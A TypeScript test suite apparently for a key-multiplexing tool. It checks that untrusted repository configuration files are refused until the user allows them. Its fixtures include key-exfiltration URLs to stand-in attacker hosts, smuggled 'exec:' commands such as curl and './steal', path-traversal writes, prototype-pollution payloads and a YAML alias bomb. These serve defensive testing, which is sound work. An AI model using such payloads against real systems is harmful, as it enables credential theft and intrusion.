/** What a project's configuration may do before its user has read it. */
import { chmodSync, cpSync, existsSync, mkdirSync, readdirSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { AllowedFiles } from '#keymux/config/allowed-files.js';
import type { Configuration } from '#keymux/config/configuration.js';
import { demandsOf } from '#keymux/config/demands.js';
import { readConfigurationFile } from '#keymux/config/file.js';
import { demandText } from '#keymux/config/not-allowed.js';
import { resolveConfiguration } from '#keymux/config/resolve.js';
import { catalogue, errorOf, folderWith, isTemplateValue } from './sample.js';

const EVIL = 'https://collect.evil.example';
const node = `'${process.execPath}'`;
const NAME = 'keymux.config.yaml';

interface Setting {
  readonly folder: string;
  readonly env?: Readonly<Record<string, string>>;
  readonly allowed?: AllowedFiles;
}

function start({ folder, env = {}, allowed }: Setting): Configuration {
  return resolveConfiguration({
    env: { FINNHUB_API_KEY: 'CANARY-finnhub', ...env },
    cwd: folder,
    home: folder,
    catalogue,
    isTemplateValue,
    readFile: readConfigurationFile,
    ...(allowed === undefined ? {} : { isAllowed: (path, digest) => allowed.has(path, digest) }),
  });
}

function allowedFiles(): AllowedFiles {
  return new AllowedFiles(join(folderWith(), 'state'));
}

function allow(allowed: AllowedFiles, path: string): void {
  allowed.allow(path, readConfigurationFile(path, catalogue).digest ?? '', 1);
}

function refusal(setting: Setting): string {
  const error = errorOf(() => start(setting));
  expect(error.code).toBe('KEYMUX_CONFIG_NOT_ALLOWED');
  expect(error.fix).toContain('keymux allow');
  expect(error.message + error.fix).not.toContain('CANARY');
  return error.message;
}

describe('a cloned repository', () => {
  it.each([
    [`providers: { finnhub: { baseUrl: "${EVIL}/v1" } }`, `providers.finnhub.baseUrl sends keys to ${EVIL}`],
    [
      `providers: { finnhub: { origins: ["${EVIL}"] } }`,
      `providers.finnhub.origins[0] sends keys to ${EVIL}`,
    ],
    [
      'providers: { finnhub: { baseUrl: "http://api.finnhub.example", allowInsecure: true } }',
      'providers.finnhub.baseUrl sends keys to http://api.finnhub.example',
    ],
    [
      'providers: { tenant: { baseUrl: "https://mallory.tenant.example" } }',
      'providers.tenant.baseUrl sends keys to https://mallory.tenant.example',
    ],
    [
      'providers: { finnhub: { keys: [{ id: a, value: "exec:curl CANARY" }] } }',
      'providers.finnhub.keys[0].value runs curl',
    ],
    ['vault: { key: "exec:./steal CANARY" }', 'vault.key runs ./steal'],
    ['store: { type: redis, url: "exec:./steal" }', 'store.url runs ./steal'],
    ['store: { type: redis, url: "redis://127.0.0.1", secret: "exec:./steal" }', 'store.secret runs ./steal'],
    ['store: { type: redis, url: "redis://u:CANARY@evil.example" }', 'store.url shares its state through'],
    ['store: { type: redis, url: "file:address" }', 'store.url shares its state through file:address'],
    ['alerts: [{ when: rejected, command: [sh, -c, "curl CANARY"] }]', 'alerts[0].command runs sh'],
    [`alerts: [{ when: rejected, webhook: "${EVIL}/CANARY" }]`, `alerts[0].webhook sends alerts to ${EVIL}`],
    ['store: { type: sqlite, path: "../../precious.db" }', 'store.path writes to ../../precious.db'],
    ['store: { type: sqlite, path: /var/lib/precious.db }', 'store.path writes to /var/lib/precious.db'],
    ['audit: { path: "sub/../.." }', 'audit.path writes to sub/../..'],
    ['alerts: [{ when: rejected, webhook: "file:hook" }]', 'alerts[0].webhook sends alerts to file:hook'],
  ])('cannot have its way: %s', (yaml, told) => {
    expect(refusal({ folder: folderWith({ [NAME]: yaml }) })).toContain(`line 1: ${told}`);
  });

  it('does not run a command before it is allowed', () => {
    const folder = folderWith();
    const touched = join(folder, 'touched');
    const run = `exec:${node} -e 'require("fs").writeFileSync("touched", "")'`;
    writeFileSync(
      join(folder, NAME),
      `providers: { finnhub: { keys: [{ id: a, value: ${JSON.stringify(run)} }] } }`,
    );
    refusal({ folder });
    expect(existsSync(touched)).toBe(false);
    const allowed = allowedFiles();
    allow(allowed, join(folder, NAME));
    start({ folder, allowed });
    expect(existsSync(touched)).toBe(true);
  });

  it('cannot name another file, or a command, in .env', () => {
    const evil = `providers: { finnhub: { baseUrl: "${EVIL}" } }`;
    const folder = folderWith({ '.env': 'KEYMUX_CONFIG=deep/other.yaml', 'deep/other.yaml': evil });
    expect(refusal({ folder })).toContain(EVIL);
    // A program that reads `.env` by itself has it in its environment.
    expect(refusal({ folder, env: { KEYMUX_CONFIG: 'deep/other.yaml' } })).toContain(EVIL);
    const store = folderWith({ '.env': 'KEYMUX_STORE="exec:touch CANARY"' });
    const error = errorOf(() => start({ folder: store }));
    expect(error.code).toBe('KEYMUX_CONFIG_NOT_ALLOWED');
    expect(error.message).not.toContain('CANARY');
  });

  it('cannot write elsewhere through a link', () => {
    const elsewhere = folderWith();
    const folder = folderWith({ [NAME]: 'store: { type: sqlite, path: link/state.db }' });
    symlinkSync(elsewhere, join(folder, 'link'));
    expect(refusal({ folder })).toContain('store.path writes to link/state.db');
  });

  it('needs no permission for what cannot give anything away', () => {
    const yaml = `
providers:
  finnhub: { baseUrl: "https://api.finnhub.example/v2", origins: ["https://eu.finnhub.example"] }
  acme: { baseUrl: "http://localhost:1", origins: ["http://[::1]:2", "http://127.0.0.9:3"], keys: [{ id: a, value: "file:a" }] }
store: { type: redis, url: "redis://[::1]:1" }
alerts: [{ when: rejected, webhook: "http://127.0.0.1:1/x" }, { when: exhausted, webhook: env:HOOK }]
vault: { key: "file:key" }
audit: { path: "new/audit" }
`;
    const { vault } = start({ folder: folderWith({ [NAME]: yaml }) });
    expect(vault).toMatchObject({ key: 'file:key', path: expect.stringMatching(/keymux\.vault$/) });
    expect(start({ folder: folderWith({ [NAME]: 'vault:' }) }).vault?.key).toBe('env:KEYMUX_VAULT_KEY');
    const inside = folderWith({ [NAME]: 'store: { type: sqlite, path: ./..new/state.db }' });
    expect(start({ folder: inside }).store).toMatchObject({ path: join(inside, '..new/state.db') });
    const stated = 'store: { type: redis, url: env:REDIS }';
    const env = { REDIS: 'redis://far.example' };
    expect(start({ folder: folderWith({ [NAME]: stated }), env }).store.type).toBe('redis');
  });
});

describe('an allowed file', () => {
  const yaml = `providers: { acme: { baseUrl: "${EVIL}" } }`;

  it('works as long as content and place are the same', () => {
    const allowed = allowedFiles();
    const folder = folderWith({ [NAME]: yaml });
    const path = join(folder, NAME);
    refusal({ folder, allowed });
    allow(allowed, path);
    expect(start({ folder, allowed }).providers.get('acme')?.baseUrl).toBe(EVIL);
    const copy = folderWith();
    cpSync(path, join(copy, NAME));
    refusal({ folder: copy, allowed });
    writeFileSync(path, `${yaml} # changed`);
    refusal({ folder, allowed });
    writeFileSync(path, yaml);
    start({ folder, allowed });
    expect(allowed.list()).toEqual([expect.objectContaining({ path, allowedAt: 1 })]);
    expect(allowed.revoke(path)).toBe(true);
    expect(allowed.revoke(path)).toBe(false);
    refusal({ folder, allowed });
  });

  it('is meant by its own name, not by what a link leads to', () => {
    const allowed = allowedFiles();
    const own = folderWith({ [NAME]: yaml });
    allow(allowed, join(own, NAME));
    const clone = folderWith();
    symlinkSync(join(own, NAME), join(clone, NAME));
    refusal({ folder: clone, allowed });
    const way = join(folderWith(), 'way');
    symlinkSync(own, way);
    start({ folder: way, allowed });
  });

  it('may also be named by its user, in the environment itself', () => {
    const folder = folderWith({ 'own/k.yaml': yaml });
    expect(start({ folder, env: { KEYMUX_CONFIG: 'own/k.yaml' } }).providers.has('acme')).toBe(true);
    const KEYMUX_CONFIG = join(folder, 'own/k.yaml');
    refusal({ folder, env: { KEYMUX_CONFIG, KEYMUX_CONFIG_FOUND: KEYMUX_CONFIG } });
  });
});

describe('the records of allowed files', () => {
  const digest = 'd'.repeat(64);

  it('are private, whole, and one for each file', () => {
    const state = join(folderWith(), 'state');
    const allowed = new AllowedFiles(state);
    expect(allowed.list()).toEqual([]);
    allowed.allow('/b', digest, 1);
    allowed.allow('/a', digest, 2);
    allowed.allow('/a', 'e'.repeat(64), 3);
    expect(allowed.list().map(({ path }) => path)).toEqual(['/a', '/b']);
    expect(readdirSync(join(state, 'allowed')).every((name) => /^[0-9a-f]{64}\.json$/.test(name))).toBe(true);
    expect([allowed.has('/a', digest), allowed.has('/b', digest), allowed.has('/c', digest)]).toEqual([
      false,
      true,
      false,
    ]);
  });

  it('allow nothing where others may write them, or where one lies in the place of another', () => {
    const state = join(folderWith(), 'state');
    const allowed = new AllowedFiles(state);
    allowed.allow('/a', digest, 1);
    const [name = ''] = readdirSync(join(state, 'allowed'));
    const record = join(state, 'allowed', name);
    chmodSync(record, 0o666);
    expect(allowed.has('/a', digest)).toBe(false);
    chmodSync(record, 0o600);
    expect(allowed.has('/a', digest)).toBe(true);
    cpSync(record, join(state, 'allowed', `${'0'.repeat(64)}.json`));
    expect(allowed.list()).toHaveLength(1);
  });

  it('are not written where the state directory cannot be', () => {
    const folder = folderWith({ state: '' });
    const error = errorOf(() => new AllowedFiles(join(folder, 'state')).allow('/a', digest, 1));
    expect(error).toMatchObject({ code: 'KEYMUX_USAGE', fix: expect.stringContaining('KEYMUX_STATE_DIR') });
  });

  it('allow nothing and break nothing, whatever stands in them', () => {
    const state = join(folderWith(), 'state');
    const allowed = new AllowedFiles(state);
    allowed.allow('/a', digest, 1);
    const [name = ''] = readdirSync(join(state, 'allowed'));
    const damaged = fc.oneof(fc.json(), fc.string(), fc.constant('{"__proto__":{"path":"/a"}}'));
    fc.assert(
      fc.property(damaged, (text) => {
        writeFileSync(join(state, 'allowed', name), text);
        expect(allowed.has('/a', digest)).toBe(false);
        expect(allowed.list()).toEqual([]);
        expect(Object.hasOwn(Object.prototype, 'path')).toBe(false);
      }),
      { numRuns: 200 },
    );
    mkdirSync(join(state, 'allowed', `${'1'.repeat(64)}.json`));
    expect(allowed.list()).toEqual([]);
  });
});

describe('what a file demands', () => {
  it('never depends on how an address is written', () => {
    const known = new Set(['https://api.finnhub.example', 'https://eu.finnhub.example']);
    const addresses = fc.oneof(
      fc.webUrl(),
      fc.constantFrom(
        'https://API.finnhub.example:443/x',
        'https://api.finnhub.example.evil.example',
        'https://api.finnhub.example:444',
        'http://localhost.evil.example',
        'http://127.1/',
        'http://2130706433/',
      ),
    );
    fc.assert(
      fc.property(addresses, (baseUrl) => {
        const demands = demandsOf({ providers: { finnhub: { baseUrl } } }, catalogue, '/');
        const { origin, hostname } = new URL(baseUrl);
        const isHere = hostname === '127.0.0.1' || hostname === 'localhost';
        expect(demands).toHaveLength(known.has(origin) || isHere ? 0 : 1);
      }),
    );
  });

  it('shows a command whole to its user, and its program alone elsewhere', () => {
    const [demand] = demandsOf(
      { alerts: [{ when: 'rejected', command: ['notify', '--token', 'two words'] }] },
      catalogue,
      '/',
    );
    expect(demand && [demandText(demand), demandText(demand, demand.text)]).toEqual([
      'alerts[0].command runs notify',
      'alerts[0].command runs notify --token "two words"',
    ]);
  });
});

describe('hostile text', () => {
  it.each([
    ['{"__proto__":{"polluted":1},"providers":{"finnhub":{}}}'],
    ['{"constructor":{"prototype":{"polluted":1}}}'],
    ['{"providers":{"__proto__":{"baseUrl":"https://x.example"}}}'],
    ['providers: { finnhub: { __proto__: { polluted: 1 } } }'],
  ])('changes nothing but its own content: %s', (text) => {
    const ending = text.startsWith('{"') ? 'json' : 'yaml';
    const folder = folderWith({ [`keymux.config.${ending}`]: text });
    expect(errorOf(() => start({ folder })).code).toBe('KEYMUX_CONFIG_INVALID');
    expect(({} as { polluted?: unknown }).polluted).toBeUndefined();
  });

  it('is refused at once where its aliases would grow without end', () => {
    const levels = Array.from({ length: 30 }, (_, level) => {
      const inner = level === 0 ? 'x' : `*a${level - 1}`;
      return `a${level}: &a${level} [${Array(10).fill(inner).join(', ')}]`;
    });
    const folder = folderWith({ [NAME]: levels.join('\n') });
    const startedAt = performance.now();
    expect(errorOf(() => start({ folder })).code).toMatch(/^KEYMUX_CONFIG_/);
    expect(performance.now() - startedAt).toBeLessThan(10_000);
  });
});
